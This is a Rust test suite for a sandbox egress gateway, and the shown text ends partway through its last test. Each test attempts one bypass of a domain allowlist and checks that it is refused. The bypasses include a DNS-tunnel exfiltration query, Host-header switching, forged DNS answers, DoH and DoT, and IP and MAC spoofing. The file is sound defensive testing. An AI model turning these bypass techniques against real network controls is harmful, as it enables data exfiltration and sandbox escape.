//! The egress bypasses of issue 4, each tried from inside a real sandbox, one test each.
//!
//! Every test runs a node whose sandboxes have their network and gateway, an allowlist
//! policy ([`policy`]), and a stand-in internet ([`Internet`]) in a namespace of its own as
//! the gateway's uplink, with its own DNS. A bypass must fail twice over: the guest sees an
//! error (or a refusal status), and where it can be measured, nothing reached the listener in
//! the internet the bypass aimed at. Most tests that expect a refusal first make the allowed
//! name work from the same guest (it resolves through the gateway, which pins its address),
//! so a refusal is the gateway's judgement, not a broken network, and the pin is there to
//! abuse.
//!
//! Every sandbox has the same address (10.0.2.15) and MAC, each in a network namespace of its
//! own; the gateway is 10.0.2.1 in each. Guest tools: busybox (nc without UDP, nslookup,
//! ip, timeout, xxd), curl and openssl.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use space_cli::client::RunOutput;
use space_core::egress::{DomainPattern, EgressMode, EgressPolicy, EgressRule, PortRange};
use space_core::process::ProcessSpec;
use space_core::sandbox::CreateSandboxRequest;
use space_core::SandboxId;
use test_support::internet::{self, Internet, Listener, OTHER_PAGE, PAGE};
use test_support::{TestServer, TEST_TEMPLATE};

/// The allowed name every test uses.
const ALLOWED: &str = "allowed.example";
/// An allowed name whose TLS the gateway terminates (an `inspect` rule).
const INSPECTED: &str = "inspected.example";
/// An allowed name whose rule asks for TLS pass-through (checked by SNI only).
const PASS_THROUGH: &str = "pinned.example";
/// Where each guest keeps the internet's CA and its sandbox CA (for `curl --cacert`,
/// `openssl -CAfile`): TLS to [`ALLOWED`] is terminated by the gateway (the default for a
/// domain rule), TLS to [`PASS_THROUGH`] is the internet's own.
const CA: &str = "/tmp/internet-ca.pem";

/// The node's egress policy: a few names, on the web ports only.
fn policy() -> EgressPolicy {
    let allow = |name: &str| {
        EgressRule::allow(DomainPattern::parse(name).expect("pattern"))
            .with_ports([PortRange::single(80), PortRange::single(443)])
    };
    EgressPolicy {
        mode: EgressMode::Allowlist,
        rules: vec![
            allow(ALLOWED),
            allow(INSPECTED).inspected(),
            allow(PASS_THROUGH).passed_through(),
            // Names whose upstream answers are private or metadata addresses (or have an
            // AAAA): allowed, so that it is the answer filter that is tested, not the name.
            allow(internet::REBIND_NAME),
            allow(internet::METADATA_NAME),
            allow(internet::V6_NAME),
        ],
    }
}

fn request() -> CreateSandboxRequest {
    CreateSandboxRequest {
        template: TEST_TEMPLATE.into(),
        ..Default::default()
    }
}

/// A node with its internet, and one sandbox on it.
struct Env {
    inet: Internet,
    ts: TestServer,
    id: SandboxId,
}

/// What curl did: its exit code, and what `-w` reported.
#[derive(Debug)]
struct Curl {
    exit: Option<i32>,
    /// `%{http_version}` (`0` when no response came).
    version: String,
    /// `%{http_code}` (0 when no response came).
    status: u16,
    /// `%{http_connect}`: the status of a proxy's answer to CONNECT.
    connect: u16,
    body: String,
    // Read through `Debug`, in failure messages.
    #[allow(dead_code)]
    stderr: String,
}

impl Curl {
    fn ok(&self) -> bool {
        self.exit == Some(0) && self.status == 200
    }
}

/// Starts the internet, a node using it, and a sandbox holding the internet's CA.
async fn sandbox() -> Env {
    let inet = Internet::start();
    let ts = TestServer::start_with(|c| {
        inet.uplink_of(&mut c.node);
        c.node.egress = policy();
    })
    .await;
    let id = ts
        .client
        .create_sandbox(&request())
        .await
        .expect("create")
        .id;
    let env = Env { inet, ts, id };
    let ca_pem = env.inet.ca_pem().as_bytes().to_vec();
    env.put(CA, ca_pem).await;
    env.ok(&format!(
        "cat /usr/local/share/ca-certificates/space-sandbox.crt >> {CA}"
    ))
    .await;
    env
}

impl Env {
    /// Runs a shell line as root in sandbox `id`, whatever its exit status.
    async fn run_in(&self, id: &SandboxId, line: &str) -> RunOutput {
        let mut spec = ProcessSpec::shell(line);
        spec.user = Some("root".into());
        self.ts.client.run(id, &spec).await.expect("run")
    }

    async fn run(&self, line: &str) -> RunOutput {
        self.run_in(&self.id, line).await
    }

    /// Runs a shell line as root; its stdout and stderr together.
    async fn text(&self, line: &str) -> String {
        let out = self.run(line).await;
        format!("{}{}", out.stdout_str(), out.stderr_str())
    }

    /// Runs a shell line as root; asserts it exited 0; returns stdout.
    async fn ok(&self, line: &str) -> String {
        test_support::shell(&self.ts.client, &self.id, line, true).await
    }

    /// Writes a file in the guest.
    async fn put(&self, path: &str, bytes: Vec<u8>) {
        self.ts
            .client
            .write_file(&self.id, path, Some("root"), Some(0o644), bytes)
            .await
            .expect("write file");
    }

    /// `curl` in the guest, trusting the internet's CA, within 10 s (a later `-m` wins).
    async fn curl(&self, args: &str) -> Curl {
        let line = format!(
            "curl -sS --cacert {CA} -m 10 \
             -w '\\n%{{http_version}} %{{http_code}} %{{http_connect}}' {args}"
        );
        let out = self.run(&line).await;
        let stdout = out.stdout_str();
        let (body, tail) = stdout.rsplit_once('\n').unwrap_or(("", &stdout));
        let mut fields = tail.split(' ');
        let mut next = || fields.next().unwrap_or_default().to_owned();
        let version = next();
        let status = next().parse().unwrap_or(0);
        let connect = next().parse().unwrap_or(0);
        Curl {
            exit: out.status.exit_code,
            version,
            status,
            connect,
            body: body.to_owned(),
            stderr: out.stderr_str(),
        }
    }

    /// The allowed name works from the guest, over HTTP and HTTPS; its address is pinned.
    async fn allowed_works(&self) {
        for url in ["http://allowed.example/", "https://allowed.example/"] {
            let r = self.curl(url).await;
            assert!(r.ok() && r.body == PAGE, "{url}: {r:?}");
        }
    }

    /// Sends the bytes of file `path` to `dst` (`host port`) with nc and returns what came
    /// back within `secs` seconds, hex-encoded (busybox nc waits for the peer to close, so
    /// a peer that keeps the connection open costs the whole bound).
    async fn raw_hex(&self, dst: &str, path: &str, secs: u32) -> String {
        let line = format!("timeout {secs} nc {dst} < {path} | xxd -p | tr -d '\\n'");
        self.run(&line).await.stdout_str()
    }

    /// Sends HTTP/1.1 requests (file `path`; the last should ask to close the connection)
    /// to `dst` with nc; the answer as text. busybox nc shuts its write side down when its
    /// input ends, and the proxy's HTTP server takes that as the end of the connection, so
    /// requests that must get past the first are sent with the input held open `hold`
    /// seconds longer.
    async fn raw_text(&self, dst: &str, path: &str, hold: u32) -> String {
        let line = format!("(cat {path}; sleep {hold}) | timeout 8 nc {dst}");
        self.run(&line).await.stdout_str()
    }

    fn hits(&self, listener: Listener) -> u64 {
        self.inet.hits(listener)
    }

    /// How many HTTP requests the internet's web servers received so far.
    fn upstream_requests(&self) -> usize {
        self.inet.requests().len()
    }

    /// Requests the internet's web servers saw whose Host (or `:authority`) is none of
    /// [`ALLOWED`], [`INSPECTED`] and [`PASS_THROUGH`].
    fn requests_for_other_hosts(&self) -> Vec<internet::SeenRequest> {
        self.inet
            .requests()
            .into_iter()
            .filter(|r| {
                let host = r.host.as_deref().unwrap_or("").to_ascii_lowercase();
                let host = host.trim_end_matches('.');
                ![ALLOWED, INSPECTED, PASS_THROUGH].contains(&host)
            })
            .collect()
    }

    async fn finish(self) {
        let _ = self.ts.client.delete_sandbox(&self.id).await;
        self.ts.stop().await;
        drop(self.inet);
    }
}

/// Big-endian u16 of a length that fits.
fn be16(n: usize) -> [u8; 2] {
    u16::try_from(n).expect("fits in 16 bits").to_be_bytes()
}

/// A TLS 1.2 ClientHello naming `sni` (raw bytes: tests put in it what no real client
/// would), offering ECDHE-ECDSA with AES-GCM (which the internet's rustls servers accept),
/// cut into TLS records of at most `fragment` bytes of handshake data each.
fn client_hello(sni: &[u8], fragment: usize) -> Vec<u8> {
    fn ext(out: &mut Vec<u8>, kind: u16, data: &[u8]) {
        out.extend(kind.to_be_bytes());
        out.extend(be16(data.len()));
        out.extend(data);
    }
    let mut server_name = be16(sni.len() + 3).to_vec();
    server_name.push(0); // host_name
    server_name.extend(be16(sni.len()));
    server_name.extend(sni);
    let mut exts = Vec::new();
    ext(&mut exts, 0, &server_name);
    ext(&mut exts, 10, &[0, 4, 0, 0x1d, 0, 0x17]); // groups: x25519, secp256r1
    ext(&mut exts, 11, &[1, 0]); // point formats: uncompressed
    ext(&mut exts, 13, &[0, 4, 4, 3, 8, 4]); // ecdsa_secp256r1_sha256, rsa_pss_rsae_sha256
    ext(&mut exts, 16, b"\x00\x09\x08http/1.1"); // ALPN
    ext(&mut exts, 23, &[]); // extended master secret
    ext(&mut exts, 0xff01, &[0]); // renegotiation info
    let mut body = vec![3, 3];
    body.extend([7u8; 32]); // random
    body.push(0); // no session id
    body.extend([0, 4, 0xc0, 0x2b, 0xc0, 0x2f]); // cipher suites
    body.extend([1, 0]); // compression: null
    body.extend(be16(exts.len()));
    body.extend(exts);
    let mut message = vec![1]; // ClientHello
    message.extend(&u32::try_from(body.len()).expect("small").to_be_bytes()[1..]);
    message.extend(body);
    let mut records = Vec::new();
    for chunk in message.chunks(fragment) {
        records.extend([22, 3, 1]);
        records.extend(be16(chunk.len()));
        records.extend(chunk);
    }
    records
}

/// A DNS query (A, recursion desired) for a name given as raw labels, framed for TCP.
fn dns_query_tcp(labels: &[&[u8]]) -> Vec<u8> {
    let mut query = vec![0x5e, 0xc7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        query.push(u8::try_from(label.len()).expect("short label"));
        query.extend(*label);
    }
    query.extend([0, 0, 1, 0, 1]);
    let mut framed = be16(query.len()).to_vec();
    framed.extend(query);
    framed
}

/// The first bytes of a TLS server's first flight (a handshake record, TLS 1.2), hex.
const TLS_SERVER_HELLO_HEX: &str = "160303";

// ---------------------------------------------------------------------------------------
// Addresses instead of names
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ip_literal_of_an_allowed_hosts_address_is_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    let (http, https) = (env.hits(Listener::Http), env.hits(Listener::Https));

    // 11.0.0.1 is pinned, but for allowed.example: a bare address names no host, and only a
    // CIDR rule could allow it.
    let plain = env.curl("http://11.0.0.1/").await;
    assert_eq!(plain.status, 403, "{plain:?}");
    assert!(plain.body.contains("egress_denied"), "{plain:?}");
    let tls = env.curl("-k https://11.0.0.1/").await;
    assert_ne!(tls.exit, Some(0), "{tls:?}");
    assert!(!tls.body.contains(PAGE), "{tls:?}");

    assert_eq!(
        env.hits(Listener::Http),
        http,
        "nothing reached 11.0.0.1:80"
    );
    assert_eq!(
        env.hits(Listener::Https),
        https,
        "nothing reached 11.0.0.1:443"
    );
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn allowed_sni_towards_a_disallowed_address_is_refused() {
    let env = sandbox().await;
    env.allowed_works().await;

    // The guest pins the allowed name to an address of its choosing: the proxy connects only
    // to addresses its resolver gave for the name, so it refuses rather than follow.
    let tls = env
        .curl("--resolve allowed.example:443:11.0.0.2 https://allowed.example/")
        .await;
    assert_ne!(tls.exit, Some(0), "{tls:?}");
    assert!(!tls.body.contains(OTHER_PAGE), "{tls:?}");
    let plain = env
        .curl("--resolve allowed.example:80:11.0.0.2 http://allowed.example/")
        .await;
    assert_eq!(plain.status, 403, "{plain:?}");
    assert!(!plain.body.contains(OTHER_PAGE), "{plain:?}");

    assert_eq!(env.hits(Listener::OtherHttps), 0);
    assert_eq!(env.hits(Listener::OtherHttp), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn forged_dns_answers_in_etc_hosts_are_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    let (http, https) = (env.hits(Listener::Http), env.hits(Listener::Https));

    // The guest's own "DNS" (/etc/hosts comes before DNS in its nsswitch.conf): the allowed
    // name at the disallowed address, and a denied name at the allowed name's address.
    env.ok("echo '11.0.0.2 allowed.example' >> /etc/hosts; \
            echo '11.0.0.1 denied.example' >> /etc/hosts")
        .await;
    for url in ["https://allowed.example/", "https://denied.example/"] {
        let r = env.curl(url).await;
        assert_ne!(r.exit, Some(0), "{url}: {r:?}");
    }
    for url in ["http://allowed.example/", "http://denied.example/"] {
        let r = env.curl(url).await;
        assert_eq!(r.status, 403, "{url}: {r:?}");
        assert!(!r.body.contains("hello"), "{url}: {r:?}");
    }

    assert_eq!(env.hits(Listener::OtherHttp), 0);
    assert_eq!(env.hits(Listener::OtherHttps), 0);
    assert_eq!(env.hits(Listener::Http), http);
    assert_eq!(env.hits(Listener::Https), https);
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// A name in the handshake, another in the request
// ---------------------------------------------------------------------------------------

/// A shared front: every name of the internet is served on one address with one
/// certificate-issuing server, so TLS checked by its SNI alone would let a request for
/// `denied.example` ride on `allowed.example`'s handshake. A plain domain rule terminates
/// TLS by default and checks the `Host` of every request.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn allowed_sni_with_another_host_is_misdirected_by_default() {
    let env = sandbox().await;
    // A plain domain rule, and one with `inspect`: both terminated. The guest trusts its
    // sandbox CA (the gateway's leaf), the gateway the internet's (`upstream_extra_ca_pem`).
    for name in [ALLOWED, INSPECTED] {
        let ok = env.curl(&format!("--http1.1 https://{name}/echo")).await;
        assert!(ok.ok(), "{ok:?}");
        assert!(ok.body.contains("served-by 11.0.0.1:443"), "{ok:?}");
        let seen = env.upstream_requests();
        // curl sends a custom Host as HTTP/2's :authority.
        for (extra, version) in [("--http1.1", "1.1"), ("--http2", "2")] {
            let r = env
                .curl(&format!(
                    "{extra} https://{name}/echo -H 'Host: denied.example'"
                ))
                .await;
            assert_eq!(
                (r.status, r.version.as_str()),
                (421, version),
                "{name}: {r:?}"
            );
            assert!(!r.body.contains("served-by"), "{r:?}");
        }
        assert_eq!(
            env.upstream_requests(),
            seen,
            "nothing went past the gateway: {:?}",
            env.inet.requests()
        );
    }
    assert!(env.requests_for_other_hosts().is_empty());
    env.finish().await;
}

/// In pass-through (a rule that asks for it, no credential), the proxy sees only the SNI;
/// the HTTP request inside TLS is the guest's and the origin server's business. What the
/// design guarantees is where it goes: to the allowed name's pinned address, nowhere else.
/// This is the weaker mode the docs name as such.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn allowed_sni_with_another_host_reaches_only_the_allowed_address_in_pass_through() {
    let env = sandbox().await;
    let r = env
        .curl("https://pinned.example/echo -H 'Host: denied.example'")
        .await;
    assert!(r.ok(), "{r:?}");
    // The allowed name's server got the request, Host (`:authority` over h2) as the guest
    // wrote it: the proxy does not look inside TLS it does not terminate.
    assert!(r.body.contains("served-by 11.0.0.1:443"), "{r:?}");
    assert!(r.body.contains("denied.example"), "{r:?}");
    // Nothing reached any other server of the internet.
    for other in [
        Listener::OtherHttp,
        Listener::OtherHttps,
        Listener::PrivateHttp,
        Listener::PrivateHttps,
        Listener::MetadataHttp,
        Listener::AltPort,
    ] {
        assert_eq!(env.hits(other), 0, "{other:?}");
    }
    assert!(env
        .requests_for_other_hosts()
        .iter()
        .all(|r| r.listener == Listener::Https));
    env.finish().await;
}

/// Cleartext HTTP is always parsed: a second request on a kept-alive connection cannot
/// name another host than the first.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn cleartext_host_switch_on_a_kept_alive_connection_is_misdirected() {
    let env = sandbox().await;
    env.allowed_works().await;
    env.put(
        "/tmp/req",
        b"GET /echo HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
          GET /echo HTTP/1.1\r\nHost: denied.example\r\nConnection: close\r\n\r\n"
            .to_vec(),
    )
    .await;
    let seen = env.upstream_requests();
    let out = env.raw_text("11.0.0.1 80", "/tmp/req", 4).await;
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(out.contains("HTTP/1.1 421"), "{out}");
    // Only the first request went upstream (the proxy would have rewritten the second's
    // Host to the connection's, so the count is what tells).
    assert_eq!(
        env.upstream_requests(),
        seen + 1,
        "{:?}",
        env.inet.requests()
    );
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// DNS around the gateway's resolver
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_to_an_outside_resolver_is_dropped() {
    let env = sandbox().await;
    // Sanity: the gateway's resolver answers.
    env.ok("nslookup allowed.example").await;
    // UDP to any resolver but the gateway's is dropped in the namespace.
    let out = env
        .run("timeout 8 nslookup outside-udp.example 11.0.0.53")
        .await;
    assert_ne!(out.status.exit_code, Some(0), "{}", out.stdout_str());
    assert!(
        !out.stdout_str().contains("11.0.0.1"),
        "{}",
        out.stdout_str()
    );
    assert_eq!(env.inet.dns_queries("outside-udp.example"), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_over_tcp_to_an_outside_resolver_is_refused() {
    let env = sandbox().await;
    env.ok("nslookup allowed.example").await;
    env.put("/tmp/q", dns_query_tcp(&[b"outside-tcp", b"example"]))
        .await;
    // TCP to 11.0.0.53:53 lands on the proxy, which finds no host name in it.
    let answer = env.raw_hex("11.0.0.53 53", "/tmp/q", 8).await;
    assert_eq!(answer, "", "no DNS answer may come back");
    // The same query to the gateway's resolver does get an answer (NXDOMAIN): the query
    // itself is fine, only its destination is refused.
    let gateway = env.raw_hex("10.0.2.1 53", "/tmp/q", 3).await;
    assert!(gateway.len() > 8, "the gateway answers: {gateway}");
    assert_eq!(env.inet.dns_queries("outside-tcp.example"), 0);
    env.finish().await;
}

/// The gateway's resolver does not forward names the policy denies: a DNS tunnel through
/// it carries nothing out.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn denied_names_are_not_looked_up_upstream() {
    let env = sandbox().await;
    // One question only: busybox nslookup asks A and AAAA at once, and which of the two
    // answers it reports varies.
    let out = env
        .text("nslookup -type=A c2VjcmV0.exfil.denied.example")
        .await;
    assert!(out.contains("NXDOMAIN"), "{out}");
    assert_eq!(env.inet.dns_queries("c2VjcmV0.exfil.denied.example"), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_over_tls_to_an_outside_resolver_is_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    // Port 853 of the allowed name's own (pinned) address, with and without its name as SNI.
    for sni in ["-servername allowed.example", "-noservername"] {
        let out = env
            .run(&format!(
                "timeout 15 openssl s_client -connect 11.0.0.1:853 {sni} -CAfile {CA} </dev/null"
            ))
            .await;
        assert_ne!(out.status.exit_code, Some(0), "{sni}: {}", out.stdout_str());
        assert!(
            !out.stdout_str().contains("BEGIN CERTIFICATE"),
            "{sni}: {}",
            out.stdout_str()
        );
    }
    assert_eq!(env.hits(Listener::Dot), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_over_https_to_a_disallowed_name_is_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    // A query for example.com, base64url (RFC 8484 GET).
    let query = "dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE";
    // curl's own DoH: the DoH server's name does not resolve.
    let doh = env
        .curl("--doh-url https://doh.example/dns-query https://allowed.example/")
        .await;
    assert_ne!(doh.exit, Some(0), "{doh:?}");
    // The DoH server's name pinned by the guest to an allowed address: the name is judged.
    let pinned = env
        .curl(&format!(
            "--resolve doh.example:443:11.0.0.1 -H 'accept: application/dns-message' \
             'https://doh.example/dns-query?{query}'"
        ))
        .await;
    assert_ne!(pinned.exit, Some(0), "{pinned:?}");
    // By address, without a name.
    let literal = env
        .curl(&format!("-k 'https://11.0.0.1/dns-query?{query}'"))
        .await;
    assert_ne!(literal.exit, Some(0), "{literal:?}");

    let doh_requests: Vec<_> = env
        .inet
        .requests()
        .into_iter()
        .filter(|r| r.path.starts_with("/dns-query"))
        .collect();
    assert!(doh_requests.is_empty(), "{doh_requests:?}");
    assert_eq!(env.inet.dns_queries("doh.example"), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_rebinding_to_a_private_address_is_nxdomain() {
    let env = sandbox().await;
    // Upstream answers rebind.example with 10.1.2.3; the gateway drops non-public answers,
    // and with none left the name does not exist.
    let out = env.text("nslookup -type=A rebind.example").await;
    assert!(out.contains("NXDOMAIN"), "{out}");
    assert!(!out.contains("10.1.2.3"), "{out}");
    assert!(env.inet.dns_queries(internet::REBIND_NAME) >= 1);

    let by_name = env.curl("http://rebind.example/").await;
    assert_eq!(by_name.exit, Some(6), "does not resolve: {by_name:?}");
    let forged = env
        .curl("--resolve rebind.example:80:10.1.2.3 http://rebind.example/")
        .await;
    assert_eq!(forged.status, 403, "{forged:?}");
    let forged_tls = env
        .curl("--resolve rebind.example:443:10.1.2.3 https://rebind.example/")
        .await;
    assert_ne!(forged_tls.exit, Some(0), "{forged_tls:?}");
    assert_eq!(env.hits(Listener::PrivateHttp), 0);
    assert_eq!(env.hits(Listener::PrivateHttps), 0);
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// Other transports, ports and proxies
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn quic_and_other_udp_to_port_443_are_dropped() {
    let env = sandbox().await;
    env.allowed_works().await;
    // UDP datagrams to 443 of the allowed name's address (TFTP and DTLS are the UDP clients
    // the guest has; the internet's UDP 443 echoes anything, QUIC or not).
    for url in [
        "tftp://11.0.0.1:443/probe",
        "tftp://allowed.example:443/probe",
    ] {
        let r = env.curl(&format!("-m 5 {url}")).await;
        assert_ne!(r.exit, Some(0), "{url}: {r:?}");
    }
    let dtls = env
        .run("timeout 8 openssl s_client -dtls1_2 -connect 11.0.0.1:443 </dev/null")
        .await;
    assert_ne!(dtls.status.exit_code, Some(0), "{}", dtls.stdout_str());
    assert_eq!(env.hits(Listener::Quic), 0, "no datagram reached UDP 443");
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ipv6_is_not_a_way_out() {
    let env = sandbox().await;
    // The guest gives itself IPv6 (a global address, out of duplicate address detection
    // after the sleep, and a default route on the link): its neighbour solicitations and
    // anything after them are IPv6 frames, which the namespace drops on the TAP. (The
    // resolver does answer AAAA for an allowed name; the proxy would judge such a
    // connection like any other, but none can reach it.)
    let setup = env
        .ok(
            "ip addr add 2600::15/64 dev eth0 && ip -6 route add default dev eth0 && \
             sleep 2 && ip addr show dev eth0",
        )
        .await;
    assert!(setup.contains("inet6 2600::15/64 scope global"), "{setup}");
    let aaaa = env.text("nslookup -type=AAAA v6.example").await;
    assert!(aaaa.contains("2600::1"), "{aaaa}");
    for url in [
        "-6 'http://[2600::1]/'",
        "-6 http://v6.example/",
        "-6 https://v6.example/",
    ] {
        let r = env.curl(&format!("-m 6 {url}")).await;
        assert_ne!(r.exit, Some(0), "{url}: {r:?}");
        assert!(!r.body.contains("hello"), "{url}: {r:?}");
    }
    assert_eq!(env.hits(Listener::Http6), 0);
    assert_eq!(env.hits(Listener::Https6), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn non_standard_ports_are_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    // The policy allows the name on 80 and 443 only.
    let r = env.curl("http://allowed.example:8080/").await;
    assert_eq!(r.status, 403, "{r:?}");
    // A Host without the port, sent to 8080.
    env.put(
        "/tmp/req",
        b"GET / HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n".to_vec(),
    )
    .await;
    let out = env.raw_text("11.0.0.1 8080", "/tmp/req", 0).await;
    assert!(out.starts_with("HTTP/1.1 4"), "{out}");
    assert!(!out.contains(PAGE), "{out}");
    // TLS to 8080 with the allowed name.
    let tls = env.curl("-k https://allowed.example:8080/").await;
    assert_ne!(tls.exit, Some(0), "{tls:?}");
    assert_eq!(env.hits(Listener::AltPort), 0);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn http_connect_through_the_proxy_is_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    let (http, https) = (env.hits(Listener::Http), env.hits(Listener::Https));
    // The allowed name's port 80 used as an explicit proxy.
    let r = env
        .curl("-p -x http://allowed.example:80 https://denied.example/")
        .await;
    assert_ne!(r.exit, Some(0), "{r:?}");
    assert_eq!(r.connect, 405, "{r:?}");
    // The gateway's proxy port itself.
    let direct = env
        .curl("-p -x http://10.0.2.1:15001 https://allowed.example/")
        .await;
    assert_ne!(direct.exit, Some(0), "{direct:?}");
    // Raw CONNECTs: to a name (405), and to the disallowed address (refused already for
    // the IP-literal Host, 403, before the method is looked at).
    for (target, status) in [("denied.example:443", "405"), ("11.0.0.2:443", "403")] {
        env.put(
            "/tmp/req",
            format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").into_bytes(),
        )
        .await;
        let out = env.raw_text("11.0.0.1 80", "/tmp/req", 0).await;
        assert!(
            out.starts_with(&format!("HTTP/1.1 {status}")),
            "{target}: {out}"
        );
    }

    assert_eq!(env.hits(Listener::OtherHttps), 0);
    assert_eq!(env.hits(Listener::Http), http);
    assert_eq!(env.hits(Listener::Https), https);
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// Spoofing, and what lies next to the sandbox
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn spoofed_source_address_is_dropped() {
    let env = sandbox().await;
    env.allowed_works().await;
    let http = env.hits(Listener::Http);
    // Another address on the guest's own link, and one from elsewhere (the internet's).
    env.ok("ip addr add 10.0.2.99/24 dev eth0; ip addr add 11.0.0.77/32 dev eth0")
        .await;
    for source in ["10.0.2.99", "11.0.0.77"] {
        let r = env
            .curl(&format!(
                "-m 5 --interface {source} --resolve allowed.example:80:11.0.0.1 \
                 http://allowed.example/"
            ))
            .await;
        // Dropped on the TAP: no answer at all (timeout), not even a refusal.
        assert_eq!(r.exit, Some(28), "{source}: {r:?}");
    }
    assert_eq!(env.hits(Listener::Http), http);
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn spoofed_mac_is_dropped() {
    let env = sandbox().await;
    env.allowed_works().await;
    let http = env.hits(Listener::Http);
    let set_mac = |mac: &str| {
        format!(
            "ip link set eth0 down && ip link set eth0 address {mac} && ip link set eth0 up \
             && ip route add default via 10.0.2.1"
        )
    };
    // The address is already pinned: no DNS needed with the forged MAC.
    let get = "-m 5 --resolve allowed.example:80:11.0.0.1 http://allowed.example/";
    env.ok(&set_mac("02:53:50:00:02:10")).await;
    let r = env.curl(get).await;
    // No ARP answer (exit 7, host unreachable) or no TCP answer (28): never a response.
    assert!(matches!(r.exit, Some(7 | 28)), "{r:?}");
    assert_eq!(env.hits(Listener::Http), http);
    // With its own MAC back, the same request goes through: it was the MAC.
    env.ok(&set_mac("02:53:50:00:02:0f")).await;
    let back = env.curl(get).await;
    assert!(back.ok() && back.body == PAGE, "{back:?}");
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_host_is_unreachable() {
    let env = sandbox().await;
    // A listener on every address of the host, counting whoever connects.
    let host = tokio::net::TcpListener::bind("0.0.0.0:0")
        .await
        .expect("bind");
    let port = host.local_addr().expect("addr").port();
    let accepted = Arc::new(AtomicU64::new(0));
    let counter = Arc::clone(&accepted);
    let listener = tokio::spawn(async move {
        while host.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::Relaxed);
        }
    });
    let api_port = env
        .ts
        .url()
        .rsplit(':')
        .next()
        .and_then(|p| p.trim_end_matches('/').parse::<u16>().ok())
        .expect("API port");
    // The host's own addresses (global scope), as a guest might guess them.
    let host_ips = std::process::Command::new("ip")
        .args(["-4", "-o", "addr", "show", "scope", "global"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    let mut targets = vec![
        format!("10.0.2.1:{port}"),
        "10.0.2.1:22".to_owned(),
        format!("10.0.2.1:{api_port}"),
    ];
    for ip in host_ips
        .lines()
        .filter_map(|l| l.split_whitespace().nth(3))
        .filter_map(|a| a.split('/').next())
    {
        targets.push(format!("{ip}:{port}"));
        targets.push(format!("{ip}:{api_port}"));
    }
    for target in &targets {
        let r = env
            .curl(&format!("-m 4 http://{target}/v1/sandboxes"))
            .await;
        assert_ne!(r.status, 200, "{target}: {r:?}");
        assert!(!r.body.contains("sandboxes"), "{target}: {r:?}");
    }
    assert_eq!(accepted.load(Ordering::Relaxed), 0, "tried {targets:?}");
    listener.abort();
    env.finish().await;
}

/// "Another sandbox" has no address of its own to aim at: every sandbox is 10.0.2.15 behind
/// a gateway 10.0.2.1, each pair in a network namespace of its own. So from sandbox A,
/// 10.0.2.15 is A itself, other addresses of the link belong to nobody, and everything else
/// goes to A's gateway, which owns no route anywhere. The test runs a listener in sandbox B
/// and tries every way A could name it; B's listener must hear nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn another_sandbox_is_unreachable() {
    let env = sandbox().await;
    let other = env
        .ts
        .client
        .create_sandbox(&request())
        .await
        .expect("create")
        .id;
    let mut listen = ProcessSpec::shell("nc -l -p 9000 > /tmp/got 2>&1");
    listen.user = Some("root".into());
    env.ts
        .client
        .start_process(&other, &listen)
        .await
        .expect("listener");
    let ready = env
        .run_in(
            &other,
            "for i in $(seq 50); do netstat -ltn | grep -q ':9000 ' && exit 0; sleep 0.1; \
             done; exit 1",
        )
        .await;
    assert_eq!(ready.status.exit_code, Some(0), "B's listener is up");

    for target in [
        "10.0.2.15",
        "10.0.2.16",
        "10.0.2.1",
        "10.0.3.15",
        "11.0.0.1",
    ] {
        let out = env
            .run(&format!(
                "echo from-a | timeout 5 nc {target} 9000; echo rc=$?"
            ))
            .await;
        assert!(
            !out.stdout_str().contains("from-b"),
            "{target}: {}",
            out.stdout_str()
        );
    }
    let got = env.run_in(&other, "cat /tmp/got").await.stdout_str();
    assert_eq!(got, "", "sandbox B heard from A");
    // The listener was live all along: B reaches it itself.
    let own = env
        .run_in(
            &other,
            "echo from-b | timeout 5 nc 127.0.0.1 9000; sleep 0.5; cat /tmp/got",
        )
        .await
        .stdout_str();
